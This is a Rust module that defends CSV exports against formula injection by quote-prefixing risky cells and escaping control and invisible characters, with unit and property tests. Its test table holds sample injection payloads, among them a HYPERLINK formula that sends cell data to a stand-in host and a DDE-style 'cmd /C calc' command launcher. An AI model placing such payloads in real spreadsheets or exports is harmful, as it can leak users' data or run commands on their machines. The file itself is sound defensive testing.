//! The one rule for a text cell of any CSV pitbook writes, so a file opened
//! in a spreadsheet never runs a formula (OWASP "CSV injection"):
//!
//! - a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return
//!   gets one `'` in front (the spreadsheet then shows it as text), unless it
//!   is a plain decimal number such as `-60.00`, which stays a number;
//! - every character free text may not hold ([`text::refused_char`]:
//!   controls — tab, CR, LF, ESC, DEL, C1 — and invisible or bidirectional
//!   formatting characters such as U+200B, U+202E, U+FEFF) is written as its
//!   escape `\u{0009}` ([`text::escaped`]), so a cell is one line of visible
//!   text that reads the way it is stored.
//!
//! Quoting (commas, quotes) is the CSV writer's job (the `csv` crate).
//! CSV is for reading; the exact export is JSON lines.

use std::borrow::Cow;

use super::text;

/// The characters that start a formula in Excel, LibreOffice or Sheets.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as it is written to a CSV file (see the module docs).
pub fn cell(text: &str) -> Cow<'_, str> {
    let starts_formula = text.starts_with(FORMULA_STARTS) && !is_plain_decimal(text);
    let has_refused = text.chars().any(text::refused_char);
    match (starts_formula, has_refused) {
        (false, false) => Cow::Borrowed(text),
        (false, true) => Cow::Owned(text::escaped(text)),
        (true, false) => Cow::Owned(format!("'{text}")),
        (true, true) => Cow::Owned(format!("'{}", text::escaped(text))),
    }
}

/// `-`? digits, then optionally `.` and digits: `60`, `-60.00`, `0.5`.
/// Nothing else (no `+`, exponent, spaces or a bare `-`).
pub fn is_plain_decimal(text: &str) -> bool {
    let digits = text.strip_prefix('-').unwrap_or(text);
    let (whole, fraction) = match digits.split_once('.') {
        Some((w, f)) => (w, Some(f)),
        None => (digits, None),
    };
    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && fraction.is_none_or(all_digits)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// (text, its cell): a formula start neutralised with `'`, numbers and
    /// plain text kept.
    const FORMULAS_AND_NUMBERS: &[(&str, &str)] = &[
        (
            r#"=HYPERLINK("http://x.example/?"&A1,"x")"#,
            r#"'=HYPERLINK("http://x.example/?"&A1,"x")"#,
        ),
        ("+1+1", "'+1+1"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\\u{0009}=1"),
        ("\r=1", "'\\u{000D}=1"),
        ("-", "'-"),
        ("-1e5", "'-1e5"),
        ("+60", "'+60"),
        ("plain text", "plain text"),
        (r#"{"amount":"-60.00"}"#, r#"{"amount":"-60.00"}"#),
        ("", ""),
    ];

    /// (text, its cell): control and invisible characters escaped.
    const ESCAPED: &[(&str, &str)] = &[
        ("a\nb", "a\\u{000A}b"),
        ("bell\u{7}", "bell\\u{0007}"),
        ("\u{1b}[31mred", "\\u{001B}[31mred"),
        ("c1\u{85}", "c1\\u{0085}"),
        // Invisible before a formula: escaped, so the cell starts with `\`.
        ("\u{feff}=1+1", "\\u{FEFF}=1+1"),
        ("admin\u{202e}nimda", "admin\\u{202E}nimda"),
        ("a\u{200b}", "a\\u{200B}"),
    ];

    #[test]
    fn formulas_are_neutralised_and_numbers_kept() {
        for &(text, want) in FORMULAS_AND_NUMBERS {
            assert_eq!(cell(text), want, "{text:?}");
        }
        for number in ["-60.00", "60", "0.5", "-0", "1234567890.123"] {
            assert_eq!(cell(number), number);
            assert!(matches!(cell(number), Cow::Borrowed(_)));
        }
    }

    #[test]
    fn control_and_invisible_characters_are_escaped() {
        for &(text, want) in ESCAPED {
            assert_eq!(cell(text), want, "{text:?}");
        }
    }

    #[test]
    fn plain_decimals() {
        for yes in ["0", "-0", "60", "-60.00", "0.01"] {
            assert!(is_plain_decimal(yes), "{yes}");
        }
        for no in [
            "", "-", ".5", "5.", "-.5", "+5", "1e3", " 5", "5 ", "--5", "1.2.3", "٣",
        ] {
            assert!(!is_plain_decimal(no), "{no}");
        }
    }

    /// Writes a header and one record with the `csv` crate, as an export
    /// does, and reads the record back.
    fn round_trip(text: &str) -> String {
        let mut w = csv::Writer::from_writer(Vec::new());
        w.write_record(["first", "next"]).unwrap();
        w.write_record([cell(text).as_ref(), "next"]).unwrap();
        let bytes = w.into_inner().unwrap();
        let mut r = csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(&bytes[..]);
        let record = r.records().next().unwrap().unwrap();
        assert_eq!(record.len(), 2);
        assert_eq!(&record[1], "next");
        record[0].to_string()
    }

    proptest! {
        #[test]
        fn no_cell_starts_a_formula(text in any::<String>()) {
            let out = cell(&text);
            prop_assert!(
                !out.starts_with(FORMULA_STARTS) || is_plain_decimal(&out),
                "{text:?} → {out:?}"
            );
            prop_assert!(!out.chars().any(text::refused_char), "{text:?} → {out:?}");
        }

        #[test]
        fn text_reads_back_after_the_one_added_quote(
            text in prop_oneof![
                "[=+\\-@]?[^\\p{Cc}\\p{Cf}]{0,40}",
                "-?[0-9]{1,6}(\\.[0-9]{1,3})?",
                any::<String>(),
            ].prop_filter("no refused characters", |s| !s.chars().any(text::refused_char))
        ) {
            let read = round_trip(&text);
            let neutralised = text.starts_with(FORMULA_STARTS) && !is_plain_decimal(&text);
            if neutralised {
                prop_assert_eq!(read.strip_prefix('\''), Some(text.as_str()));
            } else {
                prop_assert_eq!(read, text);
            }
        }

        #[test]
        fn escaped_control_characters_read_back_as_their_escapes(text in any::<String>()) {
            let read = round_trip(&text);
            prop_assert_eq!(read, cell(&text).into_owned());
        }
    }
}
